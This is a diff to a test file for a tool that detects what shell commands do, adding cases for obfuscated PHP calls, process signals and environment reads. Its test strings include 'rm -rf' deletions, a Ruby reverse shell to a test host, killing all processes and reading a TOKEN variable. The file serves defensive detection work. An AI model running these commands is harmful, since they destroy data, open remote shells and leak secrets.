@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { includesLine, told } from './told.js';
+import { effectsOfCommand, includesLine, told } from './told.js';
 
 describe('code that runs what is not in sight', () => {
   it.each([
@@ -16,6 +16,17 @@ describe('code that runs what is not in sight', () => {
     [`php -r '$f($x);'`, 'execute ?'],
     [`php -r '(function ($f, $a) { $f($a); })("system", "rm -rf a");'`, 'execute ?'],
     [`php -r '$fs = ["system"]; $fs[0]("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = system(...); $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = (fn() => "sys"."tem".$x)(); $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '[$a, $b] = [fn() => 1, $x]; $b("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = true ? $x : fn() => 2; $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = true ? fn() => 2 : $x; $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$m = ["a" => $x, "b" => fn() => 1]; $f = $m["a"] ?? fn() => 1; $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$m = ["a" => function () { return 1; }, "b" => $x]; $f = $m["b"]; $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$m = [fn() => 1]; $m["b"] = $x; $f = $m["b"]; $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = g($x ? fn() => 1 : fn() => 2); $f("rm -rf a");'`, 'execute ?'],
+    [`php -r '$m[$k] = fn() => 1; $k("rm -rf a");'`, 'execute ?'],
+    [`php -r '$f = $_GET["a"] ?? fn() => 1; $f("rm -rf a");'`, 'execute ?'],
     [`ruby -rsocket -e 'f=TCPSocket.open("x.test",1).to_i; exec sprintf("/bin/sh -i <&%d",f)'`, 'execute host'],
   ])('%s', async (command, expected) => {
     const lines = await told(command);
@@ -31,6 +42,13 @@ describe('code that runs what is not in sight', () => {
     `perl -e 'eval { die }; print 1'`,
     `php -r '$double = fn($x) => $x * 2; echo $double(3);'`,
     `php -r '$f = "strlen"; echo $f("abc");'`,
+    `php -r '$f = strtoupper(...); echo $f("a");'`,
+    `php -r '[$a, $b] = [fn() => 1, fn($x) => 2]; echo $a(), $b(1);'`,
+    `php -r '$f = $x > 1 ? fn() => 1 : fn() => 2; echo $f();'`,
+    `php -r '$f = $m["x"] ?? fn() => 1; echo $f();'`,
+    `php -r '$m = ["a" => function ($x) { return $x; }, "b" => strtolower(...)]; $f = $m[$k]; echo $f("A"); $g = $m["c"] ?? fn() => 1; $g();'`,
+    `php -r '$a = fn() => 1; ${'$a(); '.repeat(100)}'`,
+    `python3 -c "${'print(f\'{g()}\');'.repeat(100)}"`,
     `php -r 'function each_of($list, $do) { foreach ($list as $one) { $do($one); } }'`,
     `php -r '$app = require "bootstrap.php"; $app($request); $this->run($x); $handlers["x"]($y);'`,
   ])('and not %s', async (command) => {
@@ -105,6 +123,10 @@ it.each([
   [`ruby -e 'Process.kill("KILL", -1)'`, 'signal process:all'],
   ["php -r 'posix_kill(-1, 9);'", 'signal process:all'],
   [`python3 -c "import os; os.kill(4711, 9)"`, undefined],
+  ['node -e "process.kill(process.ppid, 0)"', undefined],
+  [`python3 -c "import os; os.kill(os.getppid(), 0)"`, undefined],
+  [`ruby -e 'Process.kill(0, 1)'`, undefined],
+  [`ruby -e 'Process.kill(9, 1)'`, 'signal process:init'],
   ['node -e "process.kill(child.pid)"', undefined],
 ])('whom code signals: %s', async (command, expected) => {
   expect((await told(command)).find((line) => line.startsWith('signal'))).toBe(expected);
@@ -130,4 +152,16 @@ describe('whose files they are', () => {
     expect(await told('docker run -v /srv/x:/data alpine rm -rf /data/y')).toContain('delete -r /srv/x/y');
     expect(await told('docker run --mount type=bind,source=/,target=/host alpine rm -rf /host')).toContain('delete -r /');
   });
+});
+
+it.each([
+  ['php', `php -r '$a = fn() => 1; ${'$a();'.repeat(300)}'`],
+  ['python', `python3 -c "${'print(f\'{g()}\');'.repeat(600)}"`],
+  ['the environment', `python3 -c "import os; ${'print(f\'{os.environ[1:]}\');'.repeat(300)}"`],
+])('more calls than are followed stand in the way: %s', async (_, command) => {
+  expect((await effectsOfCommand(command)).obstacles.map(({ why }) => why)).toEqual([expect.stringContaining('too m')]);
+});
+
+it('looks into every literal for the environment', async () => {
+  expect(await told(`python3 -c "import os; ${'print(f\'{a}\');'.repeat(80)} print(f'{os.system(\\"rm -rf a\\")}{os.environ[\\"TOKEN\\"]}')"`)).toEqual(expect.arrayContaining(['reveal-environment environment:TOKEN', 'delete -r /home/u/proj/a']));
 });
